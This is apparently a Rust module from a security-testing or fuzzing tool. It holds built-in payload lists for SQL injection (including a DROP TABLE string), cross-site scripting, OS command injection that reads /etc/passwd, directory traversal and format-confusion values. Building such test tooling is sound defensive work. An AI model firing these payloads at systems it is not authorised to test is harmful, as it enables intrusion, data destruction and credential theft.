//! Built-in payload sets
//!
//! Small category lists usable without any payload files on disk.
//! Payload directories loaded at start-up override these by name.

/// SQL injection
pub const SQLI: &[&str] = &[
    "'",
    "\"",
    "' OR '1'='1",
    "' OR 1=1--",
    "\" OR \"1\"=\"1",
    "'; DROP TABLE users; --",
    "1' AND '1'='1",
    "1 UNION SELECT NULL--",
    "admin'--",
    "1' ORDER BY 1--",
    "' WAITFOR DELAY '0:0:5'--",
    "1' AND SLEEP(5)--",
];

/// Cross-site scripting
pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "\" onmouseover=\"alert(1)",
    "{{7*7}}",
    "${7*7}",
];

/// OS command injection
pub const CMD: &[&str] = &[
    ";id",
    "|id",
    "&& id",
    "`id`",
    "$(id)",
    "; cat /etc/passwd",
    "| ls -la",
    "& dir",
    "$(sleep 5)",
];

/// Directory traversal
pub const DIR: &[&str] = &[
    "../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/etc/passwd%00.txt",
    "file:///etc/passwd",
];

/// Boundary and format-confusion values
pub const MISC: &[&str] = &[
    "",
    "-1",
    "0",
    "2147483648",
    "%s%s%s%s",
    "%n",
    "\r\nX-Injected: 1",
    "\u{0000}",
    "\u{202E}",
    "__proto__",
];

/// All built-in sets by name
pub fn sets() -> Vec<(&'static str, &'static [&'static str])> {
    vec![
        ("sqli", SQLI),
        ("xss", XSS),
        ("cmd", CMD),
        ("dir", DIR),
        ("misc", MISC),
    ]
}
